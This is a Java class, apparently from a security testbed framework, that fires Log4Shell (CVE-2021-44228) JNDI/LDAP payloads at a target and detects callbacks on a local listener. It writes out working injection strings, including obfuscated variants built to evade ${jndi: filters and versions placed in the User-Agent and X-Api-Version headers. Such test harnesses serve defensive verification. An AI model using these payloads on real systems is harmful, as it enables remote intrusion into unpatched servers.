package secplane.testbeds.attacks;

import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.UUID;
import java.util.stream.Collectors;

/**
 * Log4Shell, CVE-2021-44228 (and the lookup-in-context follow-up CVE-2021-45046): log4j-core
 * 2.14.1 resolves {@code ${jndi:ldap://...}} found in a logged message, so the server connects to
 * an address the attacker chose. Loading a remote class is one step further and needs an old JDK
 * or a gadget; the outbound lookup is the vulnerability, and is what this attack observes: a
 * connection to its own {@link LdapCallbackListener} proves the lookup ran.
 */
public final class Log4ShellAttack implements Attack {

    /** The payload shapes seen in the wild; each carries a distinct base DN so arrivals can be told apart. */
    public enum Variant {
        /** {@code ${jndi:ldap://...}} in a query parameter. */
        PLAIN,
        /** {@code ${lower:j}ndi} and friends: nested lookups evading naive {@code ${jndi:} filters. */
        LOWER_OBFUSCATED,
        /** {@code ${::-j}}: the default-value syntax, an empty key falling back to each letter. */
        DEFAULT_VALUE_OBFUSCATED,
        /** The plain payload in the User-Agent header, which many apps log. */
        USER_AGENT_HEADER,
        /** The plain payload in X-Api-Version, a header sprayed by mass scans in December 2021. */
        API_VERSION_HEADER;

        String baseDn(String nonce) {
            return name().toLowerCase().replace('_', '-') + "-" + nonce;
        }
    }

    private static final String BENIGN_USER_AGENT = "secplane-attacks";

    private final Duration callbackWait;

    /** Waits up to 3 seconds for the callback after the payloads are sent. */
    public Log4ShellAttack() {
        this(Duration.ofSeconds(3));
    }

    public Log4ShellAttack(Duration callbackWait) {
        this.callbackWait = callbackWait;
    }

    @Override
    public String name() {
        return "log4shell";
    }

    @Override
    public String reference() {
        return "CVE-2021-44228";
    }

    /** Sends every variant; exploited if any of them made the server connect back. */
    @Override
    public AttackResult fire(Testbed target) throws Exception {
        return fire(target, Set.of(Variant.values()));
    }

    /** Sends one variant; exploited only if that variant's lookup arrived. */
    public AttackResult fire(Testbed target, Variant variant) throws Exception {
        return fire(target, Set.of(variant));
    }

    private AttackResult fire(Testbed target, Set<Variant> variants) throws Exception {
        String nonce = UUID.randomUUID().toString().substring(0, 8);
        try (LdapCallbackListener listener = LdapCallbackListener.open()) {
            int lastStatus = -1;
            List<String> sent = new ArrayList<>();
            for (Variant variant : Variant.values()) {
                if (variants.contains(variant)) {
                    HttpResponse<String> response = target.send(request(target, listener, variant, nonce));
                    lastStatus = response.statusCode();
                    sent.add(variant + "=" + response.statusCode());
                }
            }
            Set<String> expected = variants.stream().map(v -> v.baseDn(nonce)).collect(Collectors.toSet());
            // The lookup runs inside the request, so a callback normally precedes the response;
            // the wait only covers slow machines and lets a protected run fail definitively.
            listener.await(c -> expected.contains(c.baseDn()), callbackWait);
            List<LdapCallbackListener.Connection> arrived = listener.connections();
            String arrivedVariants = variants.stream()
                    .filter(v -> arrived.stream().anyMatch(c -> c.baseDn().equals(v.baseDn(nonce))))
                    .map(Enum::name)
                    .collect(Collectors.joining(", "));
            boolean exploited = !arrived.isEmpty();
            String evidence = exploited
                    ? arrived.size() + " JNDI/LDAP callback(s) to 127.0.0.1:" + listener.port()
                            + (arrivedVariants.isEmpty() ? "" : " from " + arrivedVariants)
                            + "; base DNs " + arrived.stream().map(LdapCallbackListener.Connection::baseDn).toList()
                    : "no connection to 127.0.0.1:" + listener.port() + " within " + callbackWait.toMillis()
                            + " ms after sending " + sent;
            return new AttackResult(name(), exploited, lastStatus, evidence);
        }
    }

    private static HttpRequest.Builder request(Testbed target, LdapCallbackListener listener,
                                               Variant variant, String nonce) {
        String host = "127.0.0.1:" + listener.port();
        String dn = variant.baseDn(nonce);
        String plain = "${jndi:" + listener.url(dn) + "}";
        String message = switch (variant) {
            case PLAIN -> plain;
            case LOWER_OBFUSCATED -> "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://" + host + "/" + dn + "}";
            case DEFAULT_VALUE_OBFUSCATED ->
                    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://" + host + "/" + dn + "}";
            case USER_AGENT_HEADER, API_VERSION_HEADER -> "hello";
        };
        HttpRequest.Builder request = HttpRequest.newBuilder(
                        target.uri("/log?msg=" + URLEncoder.encode(message, StandardCharsets.UTF_8)))
                .header("User-Agent", variant == Variant.USER_AGENT_HEADER ? plain : BENIGN_USER_AGENT)
                .GET();
        if (variant == Variant.API_VERSION_HEADER) {
            request.header("X-Api-Version", plain);
        }
        return request;
    }
}
